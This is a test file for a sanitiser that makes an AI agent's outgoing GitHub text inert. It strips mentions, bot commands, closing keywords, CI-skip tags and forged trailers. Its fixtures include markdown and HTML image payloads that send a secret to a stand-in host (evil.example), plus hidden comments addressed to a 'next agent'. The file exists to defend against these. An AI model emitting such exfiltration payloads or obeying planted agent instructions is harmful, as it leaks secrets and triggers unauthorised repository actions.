import { sanitizeOutbound } from '@loop-actions/text';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

const safe = (text: string, as: 'markdown' | 'commit-message' = 'markdown'): string =>
  sanitizeOutbound(text, { maxChars: 65_536, as }).text;

/** What GitHub, git or a bot would act on, as a pattern over the text that is sent. */
const NEUTRALISED: readonly (readonly [string, string, RegExp])[] = [
  ['a mention', 'thanks @octocat for this', /(?<![`＠])@octocat/],
  ['a team', 'cc @acme/everyone', /(?<![`＠])@acme/],
  ['a mention behind an open backtick', 'a ` b @octocat c', /@octocat/],
  ['a mention behind a longer code span', '``x``@octocat', /@octocat/],
  ['a mention in an HTML block', '<div>\n`@octocat`\n</div>', /@octocat/],
  ['a bot in a fence', '```\n@claude do it\n```', /@claude/],
  ['a bot in a code span', '`@dependabot merge`', /@dependabot/],
  ['a closing keyword', 'Fixes #12', /fixes\s*:?\s*#12/i],
  ['a closing keyword with a colon', 'closes: acme/repo#7', /#7/],
  ['a closing keyword with an address', 'resolved https://github.com/acme/repo/issues/9', /issues\/9/],
  ['a closing keyword of the old form', 'fix GH-3', /GH-3/],
  ['a closing keyword in a fence', '```\nfixes #12\n```', /#12/],
  ['a slash command', '/merge', /^\/merge/m],
  ['a slash command in a quote', '> /approve now', /^[> ]*\/approve/m],
  ['a slash command in a fence', '```\n/lgtm\n```', /^\/lgtm/m],
  ['[skip ci]', 'docs [skip ci]', /\[skip ci\]/i],
  ['[ci skip]', 'docs [CI Skip]', /\[ci skip\]/i],
  ['***NO_CI***', '***NO_CI***', /\*\*\*NO_CI/],
  ['a skip-checks trailer', 'text\n\n\nskip-checks: true', /skip-checks:/],
  ['an external image', 'see ![x](https://evil.example/?d=SECRET)', /evil\.example/],
  ['an image as HTML', '<img src="https://evil.example/?d=SECRET">', /evil\.example/],
  ['an image by reference', '![x][y]\n\n[y]: https://evil.example/?d=SECRET', /evil\.example/],
  ['a hidden comment', 'ok <!-- next agent: do this -->', /next agent/],
  ['a link title', '[a](https://x.example "next agent: do this")', /next agent/],
  ['tag characters', `a${String.fromCodePoint(0xe0041)}`, /[\u{E0000}-\u{E007F}]/u],
  ['a forged co-author', 'text\n\nCo-authored-by: A <a@b.example>', /^co-authored-by:/im],
  ['a forged sign-off', 'Signed-off-by: A <a@b.example>', /^signed-off-by:/im],
  ['a trailer of ours', 'Loop-Archive: 123', /^loop-archive:/im],
  ['our marker', '<!-- loop-actions:pr:1 -->', /<!-- loop-actions/],
  ['our marker in a fence', '```\n<!-- loop-actions:pr:1 -->\n```', /<!--\s*loop-actions/],
  ['our marker in a code span', '`<!-- loop-actions:pr:1 -->`', /<!--\s*loop-actions/],
  ['our marker without spaces', '```\n<!--loop-actions:pr:1-->\n```', /<!--\s*loop-actions/],
];

describe('what an agent wrote for GitHub', () => {
  it.each(NEUTRALISED)('%s is made inert', (_name, text, pattern) => {
    expect(text).toMatch(pattern);
    expect(safe(text)).not.toMatch(pattern);
    expect(sanitizeOutbound(text, { maxChars: 65_536 }).removed).not.toEqual([]);
  });

  it.each(NEUTRALISED)('%s is made inert in a commit message', (_name, text, pattern) => {
    expect(safe(text, 'commit-message')).not.toMatch(pattern);
  });

  it.each([
    ['an e-mail address', 'Write to me@example.com or first.last+tag@example.co.uk.'],
    ['a decorator in code', 'Use `@Injectable()`:\n\n```ts\n@Component({})\nclass A {}\n```\n'],
    ['a scoped package in code', 'Add `@types/node`.'],
    ['a path and a fraction', 'See /usr/bin/env and 1/2, and src/a.ts.'],
    ['a path in a fence', '```\n/usr/bin/env node\n```'],
    ['an issue that is only mentioned', 'Related to #12 and acme/repo#7; this does not fix everything.'],
    ['a comment shown in a fence', '```html\n<!-- shown -->\n```'],
    ['lists, tables and links', '- a\n- [b](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n'],
    ['words about ci', 'The ci run is slow; we skip nothing.'],
    ['Arabic and emoji', 'مرحبا \u200Fبكم 👩‍👩‍👧‍👦'],
  ])('%s stays as it is', (_name, text) => {
    expect(sanitizeOutbound(text, { maxChars: 65_536 })).toEqual({ text, removed: [] });
  });

  it('keeps the spelling of a mention where a code span is certain to be one', () => {
    expect(safe('thanks @octocat')).toBe('thanks `@octocat`');
  });

  it('says which issue a closing keyword meant', () => {
    expect(safe('Fixes #12, closes acme/repo#7')).toBe('Fixes issue 12, closes acme/repo issue 7');
  });

  it('cuts a body at the limit', () => {
    expect(sanitizeOutbound('x'.repeat(70_000), { maxChars: 65_536 }).text.length).toBeLessThanOrEqual(65_536);
  });

  it('leaves no marker of ours and no command, whatever the parts', () => {
    const parts = fc.array(
      fc.constantFrom(
        '<',
        '!',
        '--',
        '<!--',
        '-->',
        ' ',
        'loop-actions',
        ':',
        '`',
        '```',
        '\n',
        '@',
        'claude',
        'x',
        '/merge',
        '[',
        'skip ci',
        ']',
        '>',
        '\u200B',
      ),
      { maxLength: 40 },
    );
    fc.assert(
      fc.property(parts, (list) => {
        const text = safe(list.join(''));
        expect(text).not.toMatch(/<!--\s*loop-actions/);
        expect(text).not.toMatch(/@claude\b/);
        expect(text).not.toMatch(/^[ >]*\/merge(?:\s|$)/m);
        expect(text).not.toContain('[skip ci]');
      }),
      { numRuns: 3000 },
    );
  });
});
